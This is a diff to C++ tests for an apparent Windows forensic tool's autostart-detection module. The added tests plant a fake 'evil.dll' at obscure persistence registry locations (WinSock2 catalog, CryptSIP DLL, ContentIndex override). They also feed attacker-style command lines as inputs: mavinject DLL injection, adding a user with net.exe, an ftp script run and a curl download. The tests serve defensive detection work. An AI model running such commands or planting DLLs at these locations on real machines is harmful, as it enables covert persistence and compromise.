@@ -303,11 +303,51 @@ TEST(AutostartDefaults, UsualIsSaidApartFromTheVeryText) {
   ASSERT_NE(usual, nullptr);
   EXPECT_EQ((*usual)["default_value"], "false");
   EXPECT_EQ((*usual)["usual_value"], "true");
-  EXPECT_EQ((*usual)["target_artifact"], "null");
+  EXPECT_NE((*usual)["target_artifact"], "null");
+  EXPECT_TRUE(run.context->has_collected("C:\\Windows\\System32\\SampleProvider.dll"));
   const auto* exact = run.context->record({{"location", "winlogon_shell"}});
   ASSERT_NE(exact, nullptr);
   EXPECT_EQ((*exact)["default_value"], "true");
   EXPECT_EQ((*exact)["usual_value"], "true");
+}
+
+TEST(AutostartDefaults, AForeignFileInSystem32IsPreservedAndAtKnownPlacesAFinding) {
+  const std::string evil = "C:\\Windows\\System32\\evil.dll";
+  const Value planted[] = {
+      {"HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinSock2\\Parameters\\NameSpace_Catalog5\\"
+       "Catalog_Entries\\000000000001",
+       "LibraryPath", fake::sz(evil)},
+      {in(kSoftware,
+          "Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{1}"),
+       "Dll", fake::sz(evil)},
+      {in(kControl, "ContentIndex\\Language\\English_US"), "WBDLLPathOverride", fake::sz(evil)},
+  };
+  for (const auto& [key, name, data] : planted) {
+    fake::FakeWindows windows = machine();
+    windows.program(evil);
+    windows.value(key, name, data);
+    const ModuleRun run = run_module(modules::autostarts, windows);
+    ASSERT_EQ(run.context->findings.size(), 1u) << key;
+    EXPECT_EQ(to_text(severity_of(run.context->findings[0])), to_text(Severity::low)) << key;
+    EXPECT_TRUE(run.context->has_collected(evil)) << key;
+  }
+}
+
+TEST(AutostartDefaults, ArgumentsAreUsualOnlyWhereTheWholeTextIsKnown) {
+  for (const char* command :
+       {"C:\\Windows\\System32\\ftp.exe -s:C:/Users/Public/x.txt",
+        "C:\\Windows\\System32\\mavinject.exe 4 /INJECTRUNNING C:/Users/Public/evil.dll",
+        "C:\\Windows\\System32\\net.exe user evil P@ss /add",
+        "C:\\Windows\\System32\\curl.exe example.test/x -o x",
+        "C:\\Windows\\System32\\cleanmgr.exe /D %c /x"}) {
+    fake::FakeWindows windows = machine();
+    windows.value(in(kExplorer, "MyComputer\\CleanupPath"), "", fake::sz(command));
+    const ModuleRun run = run_module(modules::autostarts, windows);
+    const auto* record = run.context->record({{"location", "my_computer_tools"}});
+    ASSERT_NE(record, nullptr) << command;
+    EXPECT_EQ((*record)["usual_value"], "false") << command;
+    EXPECT_NE(run.context->finding("autostarts.my_computer_tools"), nullptr) << command;
+  }
 }
 
 }  // namespace
